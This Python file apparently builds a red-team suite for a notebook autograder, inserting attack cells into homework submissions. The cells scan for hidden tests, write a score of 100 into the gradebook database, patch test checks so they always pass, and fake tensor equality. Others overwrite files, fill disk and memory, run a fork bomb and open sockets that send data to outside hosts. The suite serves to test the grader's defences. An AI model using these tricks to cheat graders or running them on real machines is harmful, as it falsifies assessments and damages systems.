"""Hostile and honest submissions of hw1 and hw2 for the red-team suite and the grading benchmark.

Each attack is one code cell inserted right after a solution cell of an honest but buggy
submission (the target's ``base`` sample); ``{...}`` fields come from the target. ``expected`` is
the most the attack may score: ``"base"`` is the base's score (an attack may also cost its author
points), ``"flagged"`` means it may score more than the base but never without its ``flags``
(what the boundary cannot decide: borrowing a course reference, patching what the probes run
on), a number is exactly the points of the cells before the attack (it stopped the notebook).
``status`` lists the acceptable statuses; every prefix in ``flags`` must appear in the row.

Honest variations change the full solution the way real students do (``%%time``, ``%timeit``,
``IPython.display``, tqdm, decorators, helpers, NumPy, many prints): each must score exactly as
the full solution, with no flag.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import nbformat

ANY_GRADED = ("graded", "needs_manual_grade")


class Attack(NamedTuple):
    source: str
    expected: str | float
    status: tuple[str, ...]
    flags: tuple[str, ...]


class Target(NamedTuple):
    """How the attacks apply to one assignment."""

    assignment: str
    base: str  # an honest, buggy sample: the attacks are added to it
    after_cell: str  # attacks go right after this solution cell
    points_before: float  # the base's points of the test cells before that cell
    attacks: tuple[str, ...]  # names of ATTACKS used here
    fields: dict[str, str]  # the {placeholders} of the attack sources
    honest: dict[str, Callable]  # name -> change of the full solution notebook


ATTACKS = {
    # ---- what the old design lost to: tests, scores and checks in the student's process -----
    "read_hidden_tests": Attack(
        """
import os
found = []
for top in ['/tmp', '/root', '/work', '/home', '/srv', '/etc', '/var', '/sandbox', os.getcwd()]:
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [d for d in subfolders if d not in ('site-packages', '.pyenv', '.venv')]
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith('.db'):
                found.append(path)
            elif name.endswith('.ipynb'):
                try:
                    text = open(path, errors='ignore').read()
                except OSError:
                    continue
                if 'BEGIN HIDDEN TESTS' in text or 'BEGIN SOLUTION' in text:
                    found.append(path)
print('FOUND ' + ', '.join(found) if found else 'nothing found')
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "hidden_tests_from_caches": Attack(
        """
import gc, linecache, sys
texts = [s for s in list(In) + [''.join(v[2]) for v in linecache.cache.values()]]
marker = ' '.join(['BEGIN', 'HIDDEN'])  # built here: this cell's own text is no leak
texts += [o for o in gc.get_objects() if isinstance(o, str) and marker in o and o != marker]
leak = [t for t in texts if marker in t]
from IPython.display import HTML, display
display(HTML('<pre>' + '\\n'.join(leak) + '</pre>'))
print('\\x1b]0;' + '\\n'.join(leak) + '\\x07', 'leaked', len(leak))
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "write_own_score": Attack(
        """
import glob, sqlite3
for path in glob.glob('../../../*.db') + glob.glob('/**/gradebook.db', recursive=False):
    db = sqlite3.connect(path)
    db.execute('UPDATE grade SET manual_score = 100')
    db.commit()
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "input_transformer": Attack(
        """
def _blank_tests(lines):
    text = ''.join(lines)
    return ['pass\\n'] if ('check' in text or 'score_cases' in text) else lines
get_ipython().input_transformers_post.append(_blank_tests)
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "transformer_by_computed_names": Attack(
        """
import IPython as _ip
_shell = getattr(_ip, 'get_' + 'ipython')()
_hooks = getattr(_shell, 'input_transformers_' + 'post')
_done = _hooks.append(lambda lines: ['pass\\n'])
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "custom_exception_handler": Attack(
        """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "patch_torch_and_checks": Attack(
        """
import torch
from hw_utils import checks
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
checks.assert_close = lambda *args, **kwargs: None
checks.assert_equal = lambda *args, **kwargs: None
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "checks_patched_through_vars": Attack(
        """
from hw_utils import checks as _c
_done = vars(_c).update(assert_close=lambda *a, **k: None, assert_equal=lambda *a, **k: None)
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "side_effect_in_a_default_argument": Attack(
        """
def _helper(x, _=torch.__dict__.update(allclose=lambda *a, **k: True)):
    return x
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "setattr_under_another_name": Attack(
        """
_set = setattr
_set(torch, 'allclose', lambda *a, **k: True)
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "code_swapped_through_a_local_name": Attack(
        """
from hw_utils import checks as _c
_f = _c.assert_close
_f.__code__ = (lambda *a, **k: None).__code__
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "shadow_test_helpers": Attack(
        """
def check_conv(*args, **kwargs):
    return None

def check_layers(*args, **kwargs):
    return None

def random_conv_check(*args, **kwargs):
    return None
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "display_hook": Attack(
        """
import sys
sys.displayhook = lambda value: print(value) if value is None else None
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "magic_runs_code": Attack(
        """
%config PlainTextFormatter.float_format = '4.0'
!echo escaped
""",
        "base",
        ANY_GRADED,
        ("static:magic",),
    ),
    # ---- call-time tricks: the student's function looks for the test's expected values -----
    "frames_at_call_time": Attack(
        """
import sys
def {function}(*args, **kwargs):
    frame, found = sys._getframe(), None
    while frame is not None and found is None:
        for name, value in frame.f_locals.items():
            if name in ('expected', 'want', 'reference') and value is not None:
                found = value
        frame = frame.f_back
    return found
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "gc_scan_at_call_time": Attack(
        """
import gc
def {function}(*args, **kwargs):
    candidates = [o for o in gc.get_objects() if isinstance(o, torch.Tensor)]
    return candidates[-1] if candidates else None
""",
        "base",
        ANY_GRADED,
        ("static:patch",),
    ),
    "lying_object": Attack("{lying}", "base", ANY_GRADED, ()),
    # ---- what the boundary cannot decide: flagged ---------------------------------------
    "probe_patched": Attack("{probe_patch}", "flagged", ANY_GRADED, ("static:patch",)),
    "course_reference_borrowed": Attack("{borrow}", "flagged", ANY_GRADED, ("static:reference",)),
    # ---- the sandbox and its limits ---------------------------------------------------------
    "overwrite_files": Attack(
        """
import os
written = 0
for name in os.listdir('.') + [os.path.join('..', n) for n in os.listdir('..')]:
    try:
        with open(name, 'w') as f:
            f.write('pwned')
        written += 1
    except OSError:
        pass
print('overwrote', written, 'files')
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "disk_fill_everywhere": Attack(
        """
chunk = b'x' * 2**20
total = 0
for folder in ['.', '/tmp', '/dev/shm', '/sandbox/ipc', '/sandbox']:
    try:
        with open(f'{folder}/fill.bin', 'wb') as f:
            for _ in range(4096):
                f.write(chunk)
                total += 1
    except OSError:
        pass
print(f'wrote {total} MB')
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "memory_hog": Attack(
        "hog = bytearray(20 * 2**30)\n",
        "base",
        # a MemoryError, the OOM killer, or (cgroup v1 reclaiming on a loaded machine) a cell that
        # hangs until its timeout: each is contained, the rest of the batch is graded
        (*ANY_GRADED, "kernel_died", "timeout"),
        (),
    ),
    "shared_memory_hog": Attack(
        """
import mmap
region = mmap.mmap(-1, 8 * 2**30, flags=mmap.MAP_SHARED)
for offset in range(0, len(region), 4096):
    region[offset] = 1
""",
        "base",
        (*ANY_GRADED, "kernel_died"),
        (),
    ),
    "threads_on_every_core": Attack(
        """
import time
torch.set_num_threads(16)
a = torch.randn(600, 600)
start, cpu = time.monotonic(), time.process_time()
while time.monotonic() - start < 4:
    a = (a @ a).tanh_()
print(f'used {(time.process_time() - cpu) / (time.monotonic() - start):.2f} cores')
""",
        "base",
        ANY_GRADED,
        (),
    ),
    "fork_bomb": Attack(
        """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print('stopped after', children, 'processes:', error)
""",
        "base",
        (*ANY_GRADED, "kernel_died"),
        ("static:process",),
    ),
    "network": Attack(
        """
import socket
for host, port in [('127.0.0.1', {port}), ('8.8.8.8', 53), ('pypi.org', 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b'stolen')
        print('CONNECTED', host)
    except OSError as error:
        print('blocked', host, type(error).__name__)
""",
        "base",
        ANY_GRADED,
        ("static:process",),
    ),
    "output_flood": Attack(
        "for i in range(2_000_000):\n    print('spam spam spam spam spam spam')\n",
        "base",
        ANY_GRADED,
        ("output_truncated",),
    ),
    "exit_kernel": Attack(
        "import os\nos._exit(1)\n", "{points_before}", ("kernel_died",), ("static:process",)
    ),
    "ignore_interrupt_forever": Attack(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
        "{points_before}",
        ("timeout",),
        ("static:process",),
    ),
}


# ---- honest variations ----------------------------------------------------------------------


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _insert_after(nb, grade_id: str, source: str) -> None:
    index = nb.cells.index(_cell(nb, grade_id))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))


def _timed(grade_id: str) -> Callable:
    def change(nb):
        cell = _cell(nb, grade_id)
        cell.source = "%%time\n" + cell.source

    return change


def _added(grade_id: str, source: str) -> Callable:
    return lambda nb: _insert_after(nb, grade_id, source)


def _replaced(grade_id: str, old: str, new: str) -> Callable:
    def change(nb):
        cell = _cell(nb, grade_id)
        assert old in cell.source, (grade_id, old)
        cell.source = cell.source.replace(old, new)

    return change


DISPLAY = (
    "from IPython.display import Markdown, clear_output, display\n"
    "clear_output(wait=True)\ndisplay(Markdown('**My notes:** the tests pass.'))\n"
    "import IPython.display\nIPython.display.clear_output()"
)

HW1 = Target(
    assignment="hw1_convolution",
    base="sample_conv2d_dilation_ignored",
    after_cell="conv2d_forward",
    points_before=4.0,  # test_conv_output_size, the only test cell before the attack
    attacks=tuple(ATTACKS),
    fields={
        "function": "conv2d_forward",
        "lying": """
_Agree = type('_Agree', (torch.Tensor,), {'__eq__': lambda self, other: True})
def conv2d_forward(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    (sh, sw), (ph, pw), (dh, dw) = as_pair(stride), as_pair(padding), as_pair(dilation)
    out_h = conv_output_size(x.shape[2], weight.shape[2], sh, ph, dh)
    out_w = conv_output_size(x.shape[3], weight.shape[3], sw, pw, dw)
    return torch.zeros(x.shape[0], weight.shape[0], out_h, out_w, dtype=x.dtype).as_subclass(_Agree)
""",
        # MyConv2d left unwritten, the probe made to build PyTorch's layer instead.
        "probe_patch": """
import hw_utils.probes.hw1 as _probes
_real = _probes.conv_layer
def _torch_instead(factory, *args, **kwargs):
    return _real(torch.nn.Conv2d, *args, **kwargs)
_probes.conv_layer = _torch_instead
class MyConv2d(torch.nn.Module):
    pass
""",
        "borrow": """
from hw_utils.probes.hw1 import conv2d_forward_by_pytorch as conv2d_forward
""",
    },
    honest={
        "timed_solution_cell": _timed("conv2d_forward"),
        "timeit_after_a_solution": _added(
            "conv2d_forward",
            "%timeit -n 1 -r 1 conv2d_forward(torch.ones(1, 1, 4, 4), torch.ones(1, 1, 2, 2))",
        ),
        "display_and_clear_output": _added("conv_output_size", DISPLAY),
        "decorated_helper_with_numpy": _replaced(
            "conv_output_size",
            "def conv_output_size(",
            "import functools\nimport numpy as np\n\n\ndef _count(length, span, stride):\n"
            "    return int(np.floor_divide(length - span, stride)) + 1\n\n\n"
            "@functools.lru_cache(maxsize=None)\ndef conv_output_size(",
        ),
        "prints_and_tqdm": _replaced(
            "max_pool2d_forward",
            "    for i in range(out_h):\n",
            "    from tqdm import tqdm\n    print('pooling', tuple(x.shape), 'to', out_h, out_w)\n"
            "    for i in tqdm(range(out_h), leave=False):\n        print('row', i)\n",
        ),
    },
)

HW2 = Target(
    assignment="hw2_cnn_architecture",
    base="sample_spatial_pool_stride_one",
    after_cell="spatial_size_after",
    points_before=0.0,
    attacks=(
        "hidden_tests_from_caches",
        "patch_torch_and_checks",
        "code_swapped_through_a_local_name",
        "shadow_test_helpers",
        "frames_at_call_time",
        "lying_object",
        "probe_patched",
        "course_reference_borrowed",
        "exit_kernel",
    ),
    fields={
        "function": "spatial_size_after",
        "lying": """
_Agree = type('_Agree', (int,), {'__eq__': lambda self, other: True, '__ne__': lambda s, o: False})
def spatial_size_after(confs, input_size):
    return _Agree(0)
""",
        # init_weights left unwritten, the probe made to initialise with PyTorch itself.
        "probe_patch": """
import hw_utils.probes.hw2 as _probes
_INITS = {{
    'zeros': torch.nn.init.zeros_,
    'normal': lambda w: torch.nn.init.normal_(w, std=0.01),
    'xavier': torch.nn.init.xavier_uniform_,
    'kaiming': lambda w: torch.nn.init.kaiming_normal_(w, nonlinearity='relu'),
}}
def _init_by_torch(model, scheme):
    for layer in model.modules():
        if isinstance(layer, (torch.nn.Conv2d, torch.nn.Linear)):
            _INITS[scheme](layer.weight)
            torch.nn.init.zeros_(layer.bias)
_real = _probes.initialised_weights
def _patched(init_weights, *args, **kwargs):
    return _real(_init_by_torch, *args, **kwargs)
_probes.initialised_weights = _patched
def init_weights(model, scheme):
    raise NotImplementedError
""",
        "borrow": """
from hw_utils.training import train_epoch, evaluate
from hw_utils import training as _course
fit = _course.fit
""",
    },
    honest={
        "timed_solution_cell": _timed("train_epoch"),
        "tqdm_inside_train_epoch": _replaced(
            "train_epoch",
            "    for images, labels in loader:\n",
            "    from tqdm.auto import tqdm\n"
            "    for images, labels in tqdm(loader, leave=False):\n",
        ),
        "prints_inside_fit": _replaced(
            "fit",
            "        train_loss.append(train.loss)\n",
            "        print(f'epoch {len(train_loss) + 1}: {train} {val}')\n"
            "        train_loss.append(train.loss)\n",
        ),
        "display_and_clear_output": _added("spatial_size_after", DISPLAY),
    },
)

TARGETS = {target.assignment: target for target in (HW1, HW2)}


def _expected(attack: Attack, target: Target) -> str | float:
    if attack.expected == "{points_before}":
        return target.points_before
    return attack.expected


def write_attacks(
    target: Target, base_notebook: Path, submissions: Path, listener_port: int
) -> dict[str, Attack]:
    """One submission folder per attack of ``target``, built from its honest base notebook."""
    written = {}
    for name in target.attacks:
        attack = ATTACKS[name]
        nb = nbformat.reads(base_notebook.read_text(), as_version=4)
        fields = {**target.fields, "port": str(listener_port)}
        source = attack.source.strip()
        for key, value in fields.items():
            source = source.replace(f"{{{key}}}", value.strip())
        source = source.replace("{{", "{").replace("}}", "}")
        _insert_after(nb, target.after_cell, source)
        folder = submissions / f"attack_{name}" / target.assignment
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{target.assignment}.ipynb")
        written[f"attack_{name}"] = attack._replace(expected=_expected(attack, target))
    return written


def write_honest(target: Target, full_notebook: Path, submissions: Path) -> list[str]:
    """One submission folder per honest variation of the full solution; returns the ids."""
    students = []
    for name, change in target.honest.items():
        nb = nbformat.reads(full_notebook.read_text(), as_version=4)
        change(nb)
        student = f"honest_{name}"
        folder = submissions / student / target.assignment
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{target.assignment}.ipynb")
        students.append(student)
    return students
